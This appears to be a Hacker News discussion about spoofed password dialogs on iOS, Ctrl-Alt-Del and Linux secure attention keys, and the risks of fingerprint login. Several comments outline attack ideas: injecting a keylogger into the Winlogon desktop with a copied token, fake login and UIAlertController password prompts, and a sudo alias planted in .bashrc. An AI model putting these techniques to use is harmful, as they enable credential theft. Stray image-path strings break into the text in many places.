The key willkill any process with the console open (which should then cause login to respawn) and log the killed processes.

If you want to test it then this will set Ctrl-Alt-Esc as your SAK:

  echo "control alt keycode 1 = SAK" | loadkeys

If magic sysrq is enabled, this is alt+sysrq+k. (Usually sysrq is same key as printscreen)

Altering the user's environment is a vector around security. I hadn't considered the sudo angle before, but there's a tradition of invoking binaries from their full path to mitigate the problem. So instead of sudo on its own, you would use /usr/sbin/sudo, and make sure your PATH variable never contains the current directory. Better mitigations disallow executables in users' home folders.

Not really. Attacker can execute their own shell from your profile script. Who knows how it will handle paths.

Depending on configuration, this can be prevented with noexec mount, selinux or SMACK.Grsecurity and RSBAC can prevent unwanted exec.

Systems like apparmor, or grsecurity MAC, TOMOYO or YAMA do not work against executing wrong executables.

IMA (signing and verifying files) can work too.

All bets are off in case there is a local root exploit in kernel or any setuid app.

> I think the idea behind ctrl-alt-delete is that it generates a non-maskable interrupt that can't be hooked from user-mode.

Keyloggers can still enter the winlogon session and log all keystrokes there, they need to run as a SYSTEM service, but it's very possible to do.

I'm surprised this isn't better documented, but it's pretty much as simple as copying the token from the existing Winlogon process, adjusting the privileges appropriately and calling CreateProcessAsUser() with lpDesktop set to Winsta0\Winlogon.

If you have keyloggers running as SYSTEM you've already lost.

True, the scenario in which ctrl+alt+del would help is one in which only a limited account had been compromised, but the SYSTEM level winlogon keylogger allows you to do things like turn local admin into network admin and it certainly doesn't require kernel mode access. I was more commenting on the requirement of kernel mode access or hijacking of special interrupts than on the usefulness in general.>they need to run as a SYSTEM service, but it's very possible to do.

That makes their threat a moot point...

You're right about CTRL-ALT-Delete, the problem is that users are terrible at remembering to do so without being prompted. I created a Windows XP phish-login box back in the day, that simply took you right to the login box without prompting for the key-combination, and nobody found it (and happily entered their credentials).

Any system that relies on humans to do the right thing is doomed to failure. Even something as trivial as hitting three keys each and every time they login; part of the problem with it is that it is so inconsistent (i.e. different Windows machines either do or do not prompt for the key-combination based on their configuration, so users have a mental model of skipping it).

> iOS should just use fingerprint always ...

Some of us don't want to use TouchID so, no, it shouldn't.

True, but the parent can justmodify that to say "use touchID for users who have it enabled".

Do you not have fingers? Or is there some other good reason not to use TouchID outside of the lock screen?

Not trusting apple with keeping their promise they won't share the finger print in the future is a good reason.

So you're saying you're worried about apple pushing a malicious iOS update because they want your fingerprint?

If yes, this feels utterly nonsensical. They would be able to grab your fingerprint from the sensor anyway, whether you are actively using it or not...

Alternatively you might be spreading some weird conspiracy theory that instead of securely storing a "hash" of the fingerprint on a HSM, current touchid implementations are secretly sharing your fingerprints with Apple.

That's not really any less nonsensical.

How anybody can still use this argument after prism is beyong my understanding. Literally. I do mean i can't grasp it.

What argument? It’s utterly ridiculous that you would assume Apple to be incapable of collecting your fingerprint data simply because youdidn’t enable TouchID in their software.

Do you just not use the home button?

If your password gets compromised, you can change your passwords.

If your fingerprint gets compromised, you CANT change your finger (erm... probably. I dunno of any easy way in any case)

It's not your fingerprint that's the issue, it's the data thatrepresents your fingerprint. If that data gets compromised then it's nigh impossible to change your fingerprint. However, I believe there are ways to make this very significantly difficult, and I believe Apple has achieved this level of difficulty by placing the fingerprint data in the secure enclave.

Biometrics (fingerprint, face id, etc) are a poor use for authentication (password) because they can be copied and compromised.

Biometrics have value for identity verification (username) when used in conjunction with a password

This was actually the idea behind using ctrl+alt+del for login. OriginallyMS wanted a dedicated key for this, but IBM declined (or so the story goes), so they settled for ctrl+alt+del instead.

I think this is a misunderstanding. Microsoft didn’t ask IBM something for logging users in in the DOS days. They wanted a way to reset via the keyboard. IBM provided that with Crtl-Alt-Del.

Windows didn’t use this for anything until NT in the early 90s, and it was their choice to do so. Nothing to do with IBM.

When people ask Gates about Ctrl-Alt-Del they’re obviously asking about why it was chosen for a login sequence, but I believe Gates conveniently answers a different question to makeit seem like IBM had something to do with that choice.

Fingerprint (and other "bio" features like eye retina) scans come with their own problems.

For example, how do you handle compromise (I suspect fingerprint mills / printers are not ubiquitous just because there is no demand for fake fingerprints; technologically they should be easy to make). Also, do you really want a unique match every time you log in from different devices (e.g., work and home); etc., etc.

Sorry, fingerprint solution may be worse than the disease it is trying to cure.

The point is the OS manages your fingerprint, and even if you have it, you can't easily send a stolen fingerprint to the OS.

If you have access to the hardware, that's a whole different attack vector.

>Something like"ctrl-alt-delete" for Windows (I'm not sure if it's un-catchable, but you got an idea) or even better some unused key like pause/break.

I think that even that is catchable (if needed), at leaston old Windows XP Embedded, if you used minlogon (which happened very often) you lost ctrl+alt+del access to Task Manager, but there was a third-party service to restore the "hook":


but does it suppress the real thing? otherwise the user is going to see the (real) windows security dialog, followed by your fake one after they exited the real one.

Really cannot remember how the mentioned little program worked with the "real" Winlogon, i.e. if it managed to hook "before" it the key sequence.

Anyway there are other ways, here is one:


about midpage there is a sample to "intercept and block" the sequence.

but that requires a kernel mode component, and if you have kernel access all bets are off. for instance, you can directly patch out the login screen (which is in userspace) to steal the password for you.

Sure, but I bet that some clever folks may well "disguise" such a kernel component into (say) an update or a new install in such a way that the user is tricked as well to allow it.

No idea anyway (since the topic is on iOS) how that OS would behave and what could be the equivalent of a Ctrl+Alt+Del key sequence on a keyboardless device such as a iPhone or iPad.

If you've got a kernel level hack already, just use a keylogger.

Is there any reason you can’t watch for control-alt and assume that delete will be pressed soon and react to that?You could, but then when the delete actually gets pressed, you'll get pre-empted by the real thing.

Back on XP I recall C-A-D not showing the task manager on malware-infested machines. Not sure if that's changed since then (is the full-screen c-a-d in 7/8/10 related)?

This only works when malware already has root privileges.

So it's useful in the narrow-ish case of AD privilege escalation.

That's slightly different though, in order to do this you need to have shell access on the target's computer. TFA is about displaying a password dialog from an unprivileged app or website.

The equivalent scenario with sudo would be to have a website display a mock terminal asking for sudo password, although that would be a lot harder to do inconspicuously because I don't expect terminal windows to pop out of the blue. It's also the reason why browser notify you when a page wants to go fullscreen.I think the right solution to this problem is simply not to have privileged system UI elements drawn in a way that can be mimicked by a regular app or website. LastPass made a similar mistake: https://github.com/cxxr/lostpass

I don't have an iphone so I'm not sure what would be the right way to deal with that. AFAIK apps can draw to the entire screen surface so it sounds tricky to avoid.

Maybe the actual password dialogue could contain some kind of visual code, like the one on paper money. Then the OS could detect when a fake password input is shown to the user, just like copy machines detect it when you put a bank note in the scanner.

> That's slightly different though, in order to do this you need to have shell access on the target's computer.

But I suppose any application can write to the current user's .bashrc file right? Then it can also set the alias whenever the user opens a terminal.

I don't think running a native application on a desktop is similar to running a sandboxed app on iOS. The security implication is wildly different IMO. I think a webapp is a more apt comparison.

That's what shell access means. Running a program = access to system() and thus shell access.

I wrote this email to sjobs@apple.com back in 2011. Never heard back :-/

Dear Steve,

There's one thing that's alwaysbothered me about MacOS security. When a MacOS dialog pops up (e.g. to ask you for your password), there'sno way to tell for sure that it's MacOS that owns the dialog. A similar problem exists on the iPhone when I am asked for my iTunes password.

I wanted to write and suggest an easy fix, that would make the next version of MacOS and iOS much more secure. Whynot have the users set a personal phrase, that MacOS will store and show them in every native MacOS dialog, to prove that it's really coming from MacOS? Of course, you'd have to prevent apps from screen-capturing that portion of the screen for the entire time the dialog is up, and capturing the keystrokes that are being sent to the dialog, but that shouldn't be too much of a problem. You can do something similar for the iPhone.

I really hope this finds its way into MacOS. After MacOS X came out I switched from the PC and haven't looked back. It's awesome.

Sincerely, Greg ...

Prescient of you!

Although I’m skeptical that users will really be alerted by the absence of a thing. The users I work with wouldn’t. But I would prefer it.

The inability to use the home button on the dialogues has become second nature to me out of healthy distrust/ paranoia.

I guess since writing that email, I would have preferred the option of taking a photo (and not storing it anywhere except here). You get used to system dialogs "looking like this" with the photo. If something iswrong, most humans pick it up easily. Only for blind users do you need the text.

With the hundreds of password dialogs that you get in iOS for various reasons, I think people would catch on pretty quickly to a new secure variant.

Yeah, some people wouldn't, but that isn't a reason to leave it with the terrible implementation they have now. This has annoyed me since forever on iOS.

I mean this flaw has been known for years. How long have we been pressing ctrl-alt-delete to log in to Windows?

Man I wish this had been seen and acted on! Would be an excellent feature (and one I’ve thought of myself before).

It is crazy to me that this is an issue on iOS or Android, there is so much they can do to actually make it secure.

For one, on iOS, just "fading out" the app view over the users homescreen wallpaper. There is no way an app can do this, and it is a simple visual indication that the request is coming from the OS. Problem solved.Also something I don't understand - the OS knows where the request is coming from, yet they don't show an app icon in that view? Why not?

This has been a problem for years with such simple solutions, yet nobody has touched it.

> "fading out" the app view over the users homescreen wallpaper

This is done sometimes, but has only limited success. Most users will click the "your computer is infected, click here to upgrade!" fake windows presented by webpage JS on a PC. You really think an app-fade effect will help enough to make a difference? It would help a bit, but not much.

> they don't show an app icon in that view? Why not?

Because then malicious/spammy applications would present fake alerts, which were non-badged normal popups, and add false badges. I guess you could badge everything, and push the problem onto apps whose icons look similar enough to other apps when shrunk down to whatever size your badge is. Either way, it still ends up in the same boat: probably a little bit helpful, but not much.

I'm specifically referring to iOS with the window fade. Of course the issue with it is that the user would have to notice the lack-of the effect on the fake popups (or apps trying to fake the users app icons/wallpaper)

My point is that literally anything would be better than a generic UIAlertController with a password field that exists today, I can fake one in literally ten seconds and have it be remotely triggered by a key on a server to pass through app review. Anything added would enhance security for users.I believe GP was saying that if there were a fade, it would take you "literally eleven seconds" to fake, and users would be no more likely to nice its presence or absence than they do phishing attempts on desktop computers.

A solution is to only ask for the password when absolutely necessary. I still don't understand why I need to enter a password (or use touchID) to download a free app. Shouldn't it be enough to login when I want to buy something for the first time in-app? AFAIK that's how android handles it.

You need to enter your password when downloading a free app so that if someone finds your phone they can’t install a malicious hacking or keylogging app on to your phone. Installing apps is a security risk, not just a financial issue.

If someone finds my phone, it'll be locked and they won't be able to install anything. If they can unlock the phone then it's already game over for me.

You’re using the phone and set it down, it hasn’t auto locked yet.

They have your lock screen password but not your iTunes password.

You thought they were a friend and let them borrow your unlocked phone.

Even for a security conscience person there are plenty of situations where someone could get your unlocked phone.

And most people aren’t security conscience. It’s to protect them, not you.

I get that prompting for an iCloud password again adds an extra step, but if someone has your unlocked phone they probably have enough (email, SMS, phone) to take over your iCloud account anyway.

> You’re using the phone and set it down, it hasn’t auto locked yet.

I'm not even security conscious, and always lock my phone before setting it down. I think it started becauseturning off the screen as soon as you're done saved significant battery life on the phones prior to them knowing if they were laying flat.

If someone finds my phone, it'll be locked and they won't be able to install anything

“Does your phone have a calculator? Mine’s in my bag and I need to add these values real quick.”

On ios, you can get to the calculator while the system is still locked.

It was just an example.

You could use Guided Access to allow them to use the calculator without leaving the app.

"Then get yours out, you ain't touching my phone."

Easy to say when defending your point on Hacker News. We're already talking about security, and about someone with malicious intent having access to your phone. In the context of this conversation, you're already in simulated high security mental mode.

It's completely different when you're relaxed (maybe having some fun), and the person asking for your phone is someone you know.

In a relaxed social environment, you will probably not be that rude to someone you know.

